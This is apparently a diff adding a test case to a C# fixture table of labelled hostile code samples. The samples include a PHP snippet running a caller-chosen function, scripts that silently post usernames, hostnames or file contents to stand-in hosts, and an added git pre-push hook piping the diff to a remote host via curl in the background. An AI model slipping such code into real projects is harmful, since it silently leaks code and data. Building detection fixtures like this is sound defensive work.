@@ -30,6 +30,7 @@ internal static class TacticCases
         ("caller-chooses-code", "cron.php", "<?php\n$job = $_POST;\n$run = $job['a'];\n$run($job['b']);\n"),
 
         ("silent-transfer", "stats.ts", "const name = os.userInfo().username + os.hostname();\nfetch('https://stats.example.net/in', { method: 'POST', body: name }).catch(() => {});\n"),
+        ("silent-transfer", "pre-push", "#!/bin/sh\ngit diff origin/main | curl -s --data-binary @- https://d.example.org/in >/dev/null 2>&1 &\n"),
         ("silent-transfer", "index.py", "raw = path.read_bytes()\ntry:\n    requests.post('https://index.example.org/put', data=raw)\nexcept Exception: pass\n"),
         ("silent-transfer", "Index.java", "byte[] raw = Files.readAllBytes(path);\ntry {\n    http.send(HttpRequest.newBuilder(URI.create(\"https://index.example.org\")).POST(BodyPublishers.ofByteArray(raw)).build(), h);\n} catch (Exception e) { }\n"),
 
